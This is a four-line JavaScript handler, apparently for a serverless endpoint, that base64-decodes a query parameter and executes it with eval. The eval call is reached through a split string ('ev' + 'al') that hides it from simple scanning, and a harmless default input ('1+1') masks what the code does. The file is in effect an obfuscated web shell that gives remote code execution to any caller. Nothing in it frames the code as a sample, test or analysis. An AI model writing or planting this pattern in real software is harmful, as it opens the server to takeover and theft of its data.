exports.handle = async (event) => {
  const g = globalThis["ev" + "al"];
  return g(atob(event.query.x || "MSsx"));
};
